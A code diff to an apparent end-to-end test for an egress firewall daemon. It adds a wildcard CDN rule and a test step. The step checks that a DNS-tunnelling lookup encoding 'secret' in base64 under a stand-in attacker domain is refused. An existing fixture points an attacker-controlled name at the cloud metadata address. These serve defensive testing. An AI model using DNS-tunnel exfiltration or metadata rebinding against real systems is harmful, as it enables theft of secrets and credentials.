@@ -15,10 +15,9 @@ import { createWorld, type World } from '../test/e2e/world.ts';
 const webapp = `service: webapp
 match:
   user: webapp
-dns: system
 egress:
   allow:
-    - to: [api.partner.net, metadata.evil.net]
+    - to: [api.partner.net, metadata.evil.net, "*.cdn.net"]
       ports: [443]
     - to: "@internal"
       ports: [5432]
@@ -60,6 +59,7 @@ egress:
 
 const zone: Zone = {
   'api.partner.net': { addresses: ['45.64.7.1', '2a0f:9400:7::1'] },
+  'images.cdn.net': { addresses: ['45.64.8.1', '192.168.7.9'] },
   // A name in someone else's hands that points into this host's own network.
   'metadata.evil.net': { addresses: ['169.254.169.254'] },
 };
@@ -142,6 +142,20 @@ const showPolicies = async (world: World): Promise<void> => {
   say(`  enforced ${Math.round(performance.now() - start)} ms after its start`);
 };
 
+const showNames = async (world: World): Promise<void> => {
+  heading('   Names: a wildcard opens what is asked for, and nothing else leaves the host');
+  const ask = (name: string) => world.as('webapp').resolve(name, { server: '8.8.8.8', timeout: 2000 });
+  await world.internet.queries();
+  expectThat('before: webapp does not reach 45.64.8.1', !(await reaches(world, 'webapp', '45.64.8.1')));
+  const answer = await ask('images.cdn.net');
+  expectThat(`it asks 8.8.8.8 for images.cdn.net and is told ${String(answer)}, without the private address`, String(answer) === '45.64.8.1');
+  expectThat('… which it reaches at once', await reaches(world, 'webapp', '45.64.8.1'));
+  const secret = await ask('c2VjcmV0.tunnel.evil.net');
+  expectThat(`it asks for c2VjcmV0.tunnel.evil.net and is told ${String(secret)}`, secret === 'EREFUSED');
+  const asked = (await world.internet.queries()).map(({ name }) => name);
+  expectThat('… and no name server has seen that question', !asked.some((name) => name.includes('tunnel')));
+};
+
 const showStatus = async (world: World): Promise<void> => {
   heading('3. netwallctl status');
   const { exitCode, stdout } = await world.ctl(['status']);
@@ -209,6 +223,7 @@ const tell = async (world: World): Promise<void> => {
   await showPolicies(world);
   heading('2. Who reaches what');
   await showTable(world, 'with the daemon');
+  await showNames(world);
   await showStatus(world);
   await showCalls(world);
   await showEdit(world);
